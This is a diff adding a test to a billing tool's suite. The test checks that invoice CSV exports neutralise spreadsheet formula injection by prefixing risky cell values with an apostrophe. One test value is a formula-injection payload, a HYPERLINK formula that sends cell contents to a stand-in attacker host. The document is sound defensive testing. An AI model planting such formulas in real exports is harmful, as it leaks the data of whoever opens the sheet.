@@ -125,3 +125,28 @@ def test_a_reader_that_stops_early_ends_the_export_quietly(corrected, warehouse_
     process.stdout.close()  # the reader is gone before the first line is written
     stderr = process.stderr.read().decode()
     assert (process.wait(timeout=120), stderr) == (141, "")
+
+
+def test_a_name_a_spreadsheet_would_run_is_exported_as_text(books, agent_billing_cli):
+    """Service names from the contracts file that start like a formula: CSV cells get a leading
+    apostrophe (a spreadsheet would run =HYPERLINK(...) and send the sheet away, or show -2+3 as
+    1); JSON keeps the names as they are; amounts keep their minus."""
+    names = {"C-EQ": '=HYPERLINK("http://evil.example/?"&A1,"Details")', "C-MINUS": "-2+3", "C-AT": "@SUM(1+1)"}
+    for contract_id, name in names.items():
+        books.contract(contract_id, [{**books.rmm(f"S-{contract_id}", "12.00", "2024-03-01"), "name": name}],
+                       start="2024-03-01")
+        books.count(f"S-{contract_id}", "2024-03-01", 10)
+        books.change(f"S-{contract_id}", "2024-03-15", 10, 9)
+    books.bill("2024-03-01")
+    books.bill("2024-04-01")
+
+    exported = agent_billing_cli("invoices", "export", "--month", "2024-04", "--format", "csv")
+    assert exported.returncode == 0, exported.stderr
+    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
+    for row in rows:
+        name = names[row["contract_id"]]
+        assert row["service_name"] == f"'{name}"
+        assert not row["description"].startswith(("=", "+", "-", "@"))  # a description starts with the name
+    assert any(row["amount"].startswith("-") for row in rows)  # a credit's amount is a number, not text
+    as_json = json.loads(agent_billing_cli("invoices", "export", "--month", "2024-04", "--format", "json").stdout)
+    assert {row["service_name"] for row in as_json} == set(names.values())
